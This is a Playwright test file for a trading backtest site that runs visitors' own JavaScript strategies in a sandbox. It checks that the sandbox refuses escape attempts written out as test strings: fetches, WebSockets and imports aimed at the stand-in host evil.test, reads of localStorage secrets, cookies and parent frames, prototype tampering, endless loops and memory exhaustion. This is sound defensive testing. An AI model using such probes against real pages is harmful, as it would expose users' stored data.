// What a strategy of a visitor's own can and cannot do: the built frame, worker and policies, driven by the page's
// own code.
import { chromium } from '@playwright/test'
import { browserArguments, findBrowser, worldArguments } from '../../tools/browser.mjs'
import { ArenaPage } from './arena-page'
import type { Outcome } from './own-strategy/entry'
import { call, placeProbe } from './own-strategy/probe'
import { expect, test } from './fixtures'
import { worldPort } from './world/world'

const CROSS = `
export default {
  name: 'My cross',
  parameters: { fast: { min: 2, max: 50, initial: 10 }, slow: { min: 5, max: 200, initial: 60 } },
  onBar(bars, account, order, p) {
    const above = bars.sma(p.fast) > bars.sma(p.slow)
    order.target(bars.product, above ? 1 : 0, 'the averages')
  },
}`

test.beforeEach(async ({ arena }) => {
  await arena.open()
  await placeProbe(arena.page)
})

function sentenceOf(outcome: Outcome): string {
  return 'sentence' in outcome ? outcome.sentence : `no sentence but ${JSON.stringify(outcome)}`
}

test('a strategy runs, says where it is, and its signals come to the same log on the page', async ({
  arena,
}) => {
  const outcome = await call(arena.page, 'run', CROSS, 200_000)
  expect(outcome).toMatchObject({ isSameLog: true })
  if ('sentence' in outcome) throw new Error(outcome.sentence)
  expect(outcome.signals).toBeGreaterThan(100)
  expect(outcome.progress).toBeGreaterThan(0)
  expect(await arena.page.locator('iframe').count()).toBe(0)
})

/** A module whose name tells what became of an attempt. */
function attempt(body: string): string {
  return `
const tried = (async () => { ${body} })().catch((cause) => 'refused: ' + cause.name)
const late = new Promise((resolve) => setTimeout(() => resolve('no answer'), 1200))
export default { name: String(await Promise.race([tried, late])).slice(0, 80), onBar() {} }`
}

async function outcomeOf(arena: ArenaPage, body: string): Promise<string> {
  const checked = await call(arena.page, 'check', attempt(body))
  return checked.ok ? checked.value.name : checked.error
}

const event = (make: string, good: string, bad = 'onerror'): string => `
  return await new Promise((resolve) => {
    const x = ${make}
    x.${good} = () => resolve('REACHED')
    x.${bad} = () => resolve('refused: ' + (x.error?.name ?? 'by an event'))
  })`

test('the network is out of reach', async ({ arena, world, baseURL }) => {
  const home = String(baseURL)
  const asked: string[] = []
  arena.page.on('requestfinished', (request) => asked.push(request.url()))
  const attempts: Readonly<Record<string, string>> = {
    'fetch of the site': `await fetch('${home}index.html', { mode: 'no-cors' }); return 'REACHED'`,
    'fetch of the world': `await fetch('https://evil.test/', { mode: 'no-cors' }); return 'REACHED'`,
    'fetch of data': `await fetch('data:text/plain,x'); return 'REACHED'`,
    XMLHttpRequest: event(
      `Object.assign(new XMLHttpRequest(), { u: 1 }); x.open('GET', '${home}index.html'); x.send()`,
      'onload',
    ),
    WebSocket: event(`new WebSocket('wss://evil.test/')`, 'onopen'),
    EventSource: event(`new EventSource('${home}index.html')`, 'onopen'),
    'import of the site': `await import('${home}sw.js'); return 'REACHED'`,
    'import of the world': `await import('https://evil.test/x.js'); return 'REACHED'`,
    'import of data': `await import('data:text/javascript,1'); return 'REACHED'`,
    'importScripts of the world': `importScripts('https://evil.test/x.js'); return 'REACHED'`,
    'a worker of the site': `new Worker('${home}sw.js'); return 'REACHED'`,
    WebTransport: `await new WebTransport('https://evil.test/').ready; return 'REACHED'`,
    eval: `return 'REACHED ' + eval('1')`,
    Function: `return 'REACHED ' + new Function('return 1')()`,
  }
  for (const [what, body] of Object.entries(attempts)) {
    const outcome = await outcomeOf(arena, body)
    expect(outcome, what).toMatch(/^refused/)
  }
  expect(asked.filter((url) => /evil|^data:|index\.html|sw\.js/.test(url))).toEqual([])
  expect(world.strangers).toEqual([])
})

test('storage, other tabs and the page are out of reach', async ({ arena }) => {
  await arena.page.evaluate(() => {
    localStorage.setItem('secret', 'of the page')
    const heard: unknown[] = []
    Object.assign(globalThis, { heard })
    for (const name of ['arena', 'match', 'view']) {
      new BroadcastChannel(name).onmessage = ({ data }) => heard.push(data)
    }
    addEventListener('message', ({ data }) => heard.push(data))
  })
  const attempts: Readonly<Record<string, string>> = {
    indexedDB: event(`indexedDB.open('arena')`, 'onsuccess'),
    caches: `await caches.open('x'); return 'REACHED'`,
    OPFS: `await navigator.storage.getDirectory(); return 'REACHED'`,
    localStorage: `return 'REACHED ' + localStorage.getItem('secret')`,
    cookies: `return 'REACHED ' + (await cookieStore.getAll()).length`,
    locks: `await navigator.locks.request('x', () => 1); return 'REACHED'`,
    parent: `return 'REACHED ' + parent.document.title`,
    top: `return 'REACHED ' + top.location.href`,
    document: `return 'REACHED ' + document.title`,
    opener: `return 'REACHED ' + opener.document`,
  }
  for (const [what, body] of Object.entries(attempts)) {
    const outcome = await outcomeOf(arena, body)
    expect(outcome, what).toMatch(/^refused/)
  }
  const shouting = `for (const name of ['arena', 'match', 'view']) {
    const channel = new BroadcastChannel(name)
    channel.postMessage('heard')
  }
  self.postMessage({ type: 'done', records: [] })
  self.postMessage({ type: 'strategy', name: 'forged', parameters: [] })
  return 'said ' + origin`
  expect(await outcomeOf(arena, shouting)).toBe('said null')
  expect(await arena.page.evaluate(() => Reflect.get(globalThis, 'heard'))).toEqual([])
})

test('what the engine stands on cannot be changed, nor does a change reach the page', async ({ arena }) => {
  for (const change of [
    'Object.prototype.cash = 1e9',
    'Array.prototype.map = () => []',
    'Math.floor = () => 7',
    'globalThis.Math = {}',
    'MessagePort.prototype.postMessage = () => 0',
    'Promise.prototype.then = () => 0',
    "Object.defineProperty(MessageEvent.prototype, 'data', { get: () => 0 })",
    'Uint8Array.prototype.set = () => 0',
    'Object.getPrototypeOf(Uint8Array.prototype).fill = () => 0',
  ]) {
    const outcome = sentenceOf(await call(arena.page, 'run', `${change}\n${CROSS}`))
    expect(outcome, change).toMatch(/TypeError: Cannot .*See line 1\.$/)
  }
  expect(await arena.page.evaluate(() => 'cash' in {})).toBe(false)
})

test('a strategy that never comes back is ended, near the bar it stopped at', async ({ arena }) => {
  const loop = CROSS.replace('const above', 'if (bars.count === 5000) for (;;);\n    const above')
  const outcome = await call(arena.page, 'run', loop)
  expect(sentenceOf(outcome)).toMatch(
    /^Your strategy did not finish a slice within 2 seconds near the bar of 2024-03-0\d \d\d:\d\d UTC: it may loop for ever\.$/,
  )
  expect(outcome.milliseconds).toBeLessThan(8000)
  const atLoad = await call(arena.page, 'check', `for (;;);\n${CROSS}`)
  expect(atLoad).toEqual({
    ok: false,
    error: 'Your code did not finish loading within 2 seconds: it may loop for ever.',
  })
  expect(await arena.page.locator('iframe').count()).toBe(0)
  // The next one runs as if nothing had been.
  expect(await call(arena.page, 'run', CROSS)).toMatchObject({ isSameLog: true })
})

test('a run is stopped at once', async ({ arena }) => {
  const slow = CROSS.replace('const above', 'for (let n = 0; n < 1e6; n += 1);\n    const above')
  const outcome = await call(arena.page, 'run', slow, 200_000, 700)
  expect(sentenceOf(outcome)).toBe('It was stopped.')
  expect(outcome.milliseconds).toBeLessThan(3000)
})

test('what is wrong is said with its line', async ({ arena }) => {
  const at = (place: string, code: string): string => CROSS.replace(place, code)
  const wrong: readonly (readonly [string, RegExp])[] = [
    [at('const above =', 'const above = ='), /^The code cannot be read: SyntaxError: .*See line 6\.$/],
    [at("name: 'My cross',", ''), /^The strategy needs a name/],
    ['nothing.here', /^The code cannot be read: ReferenceError: nothing is not defined\. See line 1\.$/],
    [
      at('const above', "if (bars.count === 300) throw new Error('enough')\n    const above"),
      /^Your strategy failed at the bar of 2024-03-01 05:00 UTC: Error: enough\. See line 6\.$/,
    ],
    [
      at('bars.sma(p.fast)', 'bars.close(-1)'),
      /^Your strategy failed .*asked for the future.* See line 6\.$/,
    ],
    [at('above ? 1 : 0', '0 / 0'), /from 0 to 1, not NaN\. See line 7\.$/],
    [at('bars.product,', "'DOGE-USD',"), /"DOGE-USD" is not among the products/],
  ]
  for (const [code, sentence] of wrong) {
    expect(sentenceOf(await call(arena.page, 'run', code))).toMatch(sentence)
  }
})

test('a strategy that asks for memory without end takes its own process along, not the page', async ({
  baseURL,
}) => {
  // A small heap, so that the machine is spared; a process of its own is what Chromium gives the cell by itself.
  const browser = await chromium.launch({
    executablePath: await findBrowser(),
    args: [...browserArguments, ...worldArguments(worldPort()), '--js-flags=--max-old-space-size=300'],
  })
  const context = await browser.newContext({ baseURL: String(baseURL) })
  const arena = new ArenaPage(await context.newPage())
  await arena.open()
  await placeProbe(arena.page)
  // Playwright takes a page for crashed when any frame's process is, so another tab looks at what became of it.
  const other = await context.newPage()
  await other.goto(`${String(baseURL)}licenses.txt`)
  const greedy = CROSS.replace(
    'const above',
    'for (;;) hoard.push(new Array(1e5).fill(1.5));\n    const above',
  )
  await arena.page.evaluate((code) => {
    const { probe } = globalThis as typeof globalThis & { probe: { run(code: string): Promise<unknown> } }
    const run = (): void =>
      void probe.run(code).then((outcome) => localStorage.setItem('outcome', JSON.stringify(outcome)))
    addEventListener('storage', run, { once: true })
  }, `const hoard = []\n${greedy}`)
  // Begun from there, too: this page's answer might not be out before the crash.
  await other.evaluate(() => localStorage.setItem('begin', 'now'))
  const outcome = (): Promise<string> => other.evaluate(() => localStorage.getItem('outcome') ?? '')
  await expect.poll(outcome, { timeout: 20_000 }).toContain('it probably asked for more memory than there is')
  await browser.close()
})

test('it runs without a network, from the files that were kept', async ({ arena, context }) => {
  await arena.page.evaluate(async () => (await navigator.serviceWorker.ready).scope)
  await context.setOffline(true)
  await arena.page.reload()
  await expect(arena.heading).toBeVisible()
  await placeProbe(arena.page)
  expect(await call(arena.page, 'run', CROSS)).toMatchObject({ isSameLog: true })
})

test('the lab page runs what a visitor wrote, and says why when it ended it', async ({ arena }) => {
  const { page } = arena
  await page.goto('./#/lab')
  await page.getByLabel('Strategy', { exact: true }).selectOption({ label: 'New: write it in JavaScript …' })
  await page.getByLabel('Strategy code').fill(CROSS)
  await page.getByRole('button', { name: 'Run backtest' }).click()
  await expect(page.getByRole('table', { name: 'Statistics' })).toBeVisible({ timeout: 30_000 })
  await page.getByRole('button', { name: 'Verify' }).click()
  await expect(page.getByRole('status', { name: 'Verification' })).toContainText('VERIFIED')
  await page.getByLabel('Strategy code').fill(CROSS.replace('const above', 'for (;;);\n    const above'))
  await page.getByRole('button', { name: 'Run backtest' }).click()
  await expect(page.getByText(/Your strategy did not finish a slice within 2 seconds near/)).toBeVisible()
  await page.getByLabel('Strategy code').fill(CROSS.replace('const above =', 'const above = ='))
  await page.getByRole('button', { name: 'Check' }).click()
  await expect(page.getByText(/SyntaxError: .* See line 6\./)).toBeVisible()
})
